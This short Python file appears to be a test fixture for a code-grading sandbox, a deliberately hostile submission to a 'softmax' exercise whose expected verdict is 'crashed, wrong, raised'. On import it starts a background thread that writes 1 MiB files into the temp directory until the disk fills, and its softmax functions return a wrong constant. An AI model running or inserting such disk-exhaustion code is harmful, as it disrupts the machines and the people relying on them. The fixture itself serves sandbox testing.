# Writes files in a thread of its own while short answers keep the host busy.
# exercise: softmax
# verdict: crashed, wrong, raised
import itertools
import os
import threading

import numpy as np

FOLDER = os.environ.get("TMPDIR", "/tmp")


def fill():
    for number in itertools.count():
        try:
            with open(f"{FOLDER}/{number}", "wb") as file:
                file.write(bytes(2**20))
        except OSError:
            return


threading.Thread(target=fill, daemon=True).start()


def softmax(x, axis=-1, keepdims=False):
    return np.zeros(1)


logsumexp = log_softmax = softmax
